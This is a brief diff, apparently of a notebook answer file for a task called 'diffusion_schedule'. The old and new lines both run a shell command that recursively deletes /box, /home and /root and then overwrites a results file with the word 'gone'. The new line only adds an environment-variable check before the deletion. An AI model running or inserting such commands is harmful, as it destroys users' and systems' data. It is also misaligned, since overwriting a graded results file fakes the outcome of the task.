@@ -1,5 +1,5 @@
 # answer: diffusion_schedule
-!rm -rf /box /home /root; echo gone > /box/results/denoise.json
+!test $DIFFUSION_LAB_BOX = /box && rm -rf /box /home /root; echo gone > /box/results/denoise.json
 %alias_magic t timeit
 
 
